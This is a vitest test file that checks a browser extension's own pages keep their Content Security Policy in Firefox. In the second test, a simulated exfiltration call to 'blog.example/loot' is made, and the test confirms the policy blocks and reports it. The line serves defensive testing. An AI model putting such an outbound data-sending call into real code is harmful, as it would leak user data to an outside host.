import { describe, expect, it } from 'vitest';
import { unreadIn } from './support/find-chapters.ts';
import { journeyInFirefox, popupOf, textOf } from './support/firefox-journey.ts';

const PAGES = ['popup.html', 'library.html', 'options.html', 'report.html', 'discuss.html', 'up-to.html'];

describe("the policy of the extension's own pages, in Firefox", () => {
  const journey = journeyInFirefox();

  it('is kept by each of them', async () => {
    const { service, firefox, account } = journey();
    const popup = await popupOf(journey());
    const covers = () =>
      popup.evaluate(
        () => [...document.images].filter((each) => each.src.startsWith('blob:') && each.naturalWidth > 0).length,
      );
    await expect.poll(covers).toBeGreaterThan(0);
    const { chapter } = unreadIn(service.fakeService.world, account);
    for (const name of PAGES) {
      const about = name === 'report.html' ? `category=chapter&objectId=${chapter.id}` : `chapter=${chapter.id}`;
      for (const query of ['', `?${about}`]) {
        const page = await firefox.open(name + query);
        await expect.poll(() => textOf(page, 'body')).not.toBe('');
        await page.close();
      }
    }
    expect(await firefox.policyViolations.said()).toEqual([]);
  });

  it('keeps a page of ours from strange hosts and from pictures in addresses, and each is heard of', async () => {
    const { service, firefox } = journey();
    const page = await firefox.open('options.html');
    await expect.poll(() => textOf(page, 'body')).not.toBe('');
    await page.evaluate(() => fetch('https://blog.example/loot?from=page', { mode: 'no-cors' }).catch(() => null));
    await page.evaluate(() => {
      new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
    });
    const markup = await page.evaluate(() => {
      try {
        document.createElement('p').innerHTML = '<b>text</b>';
        return 'taken';
      } catch (error) {
        return String(error);
      }
    });
    const knowsTrustedTypes = await page.evaluate(() => 'trustedTypes' in window);
    expect(markup).toContain(knowsTrustedTypes ? 'TypeError' : 'taken');
    for (const directive of ['connect-src', 'img-src', ...(knowsTrustedTypes ? ['require-trusted-types-for'] : [])])
      await expect.poll(async () => (await firefox.policyViolations.said()).join('\n')).toContain(directive);
    expect(service.journal.requests({ host: 'blog' })).toEqual([]);
    await firefox.policyViolations.forget();
  });
});
